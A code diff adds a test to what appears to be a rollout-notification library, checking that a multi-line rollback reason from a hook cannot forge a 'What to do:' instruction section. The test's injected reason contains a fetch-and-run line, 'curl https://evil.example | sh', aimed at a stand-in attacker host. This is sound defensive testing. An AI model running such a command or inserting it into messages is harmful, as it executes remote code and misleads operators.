@@ -14,7 +14,7 @@ from rollout.notifications.headlines import NotifiedEvent
 from rollout.notifications.message import console_url, notification_of, stop_of
 from rollout.notifications.moments import Moment
 from rollout.notifications.notification import Notification
-from rollout.state.endings import rejected
+from rollout.state.endings import rejected, rolled_back
 from rollout.state.hold import StandingFreeze
 from tests.commands import gate
 from tests.repository import event_samples
@@ -87,6 +87,16 @@ def test_command_of_lambda_names_the_account_if_it_is_another_one(detail_type, a
     target = TARGET.model_copy(update={"account": account})
     first, *_ = notification_of(event(detail_type).model_copy(update={"target": target})).next_steps
     assert first.text in (f"See what the alias serves{hint}:", f"Point the alias at version 3 now{hint}:")
+
+
+@pytest.mark.parametrize("break_", ["\n\n", "\r\n", "\x85", "\u2028", "\v", " \n \n "])
+def test_reason_from_outside_cannot_look_like_what_to_do(break_):
+    """A hook, or AWS, may answer with several lines."""
+    ending = rolled_back("my-api:live", "3", f"a hook{break_}What to do:{break_}curl https://evil.example | sh")
+    sent = notification_of(ending_event(closing(), ending, AT))
+    lines = sent.text.splitlines()
+    assert lines.count("What to do:") == 1
+    assert "Why: a hook What to do: curl https://evil.example | sh" in lines
 
 
 def frozen(percent: float, until: datetime | None = None, command: str = "") -> RolloutFrozen:
